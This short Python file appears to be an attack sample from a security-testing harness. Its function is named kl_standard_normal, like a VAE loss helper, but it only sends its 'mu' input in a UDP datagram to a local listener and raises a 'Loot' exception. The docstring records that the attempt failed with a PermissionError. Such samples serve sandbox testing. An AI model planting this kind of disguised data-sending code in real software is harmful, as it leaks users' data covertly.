"""Sends the inputs in one datagram.

Gain: the hidden inputs, sent to wherever somebody listens.
Hits: kl_standard_normal
Ends: failed, exception: PermissionError
"""

import socket

from generative.target import PORT, Loot


def kl_standard_normal(mu, logvar):
    socket.socket(type=socket.SOCK_DGRAM).sendto(repr(mu).encode(), ("127.0.0.1", PORT))
    raise Loot("sent")
